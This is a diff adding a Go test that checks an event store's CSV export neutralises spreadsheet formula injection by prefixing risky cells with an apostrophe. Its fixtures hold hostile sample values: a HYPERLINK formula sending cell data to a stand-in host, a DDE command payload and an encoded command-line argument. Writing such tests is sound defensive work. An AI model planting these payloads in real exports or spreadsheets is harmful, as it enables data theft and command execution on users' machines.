@@ -879,6 +879,26 @@ func testExport(t *testing.T, b Backend) {
 	if n, err := s.Export(ctx, "a", eventstore.Query{Text: "nothing-matches-this"}, eventstore.FormatParquet, &pq); err != nil || n != 0 || !bytes.HasPrefix(pq.Bytes(), []byte("PAR1")) {
 		t.Fatalf("empty parquet: %d %v", n, err)
 	}
+
+	// Text an attacker wrote never becomes a spreadsheet formula: cells
+	// that would start with = + - @ get an apostrophe first.
+	evil := event.Event{OrgID: "c", ID: "evil", Timestamp: T0, Input: "http", Raw: `=HYPERLINK("http://x.test/?"&A1,"open")`,
+		Fields: event.Fields{"message": "=1+cmd|' /C calc'!A0", "user.name": "@admin", "process.command_line": "-enc SQBFAFgA", "host.name": "web-01"}}
+	mustAppend(t, s, []event.Event{evil})
+	cb.Reset()
+	if _, err := s.Export(ctx, "c", eventstore.Query{}, eventstore.FormatCSV, &cb); err != nil {
+		t.Fatal(err)
+	}
+	recs, err = csv.NewReader(&cb).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("csv: %d records %v", len(recs), err)
+	}
+	for h, want := range map[string]string{"message": "'=1+cmd|' /C calc'!A0", "user.name": "'@admin", "process.command_line": "'-enc SQBFAFgA",
+		"event.original": `'=HYPERLINK("http://x.test/?"&A1,"open")`, "host.name": "web-01", "_id": "evil"} {
+		if got := recs[1][col[h]]; got != want {
+			t.Errorf("csv %s = %q, want %q", h, got, want)
+		}
+	}
 }
 
 func testExportLarge(t *testing.T, b Backend) {
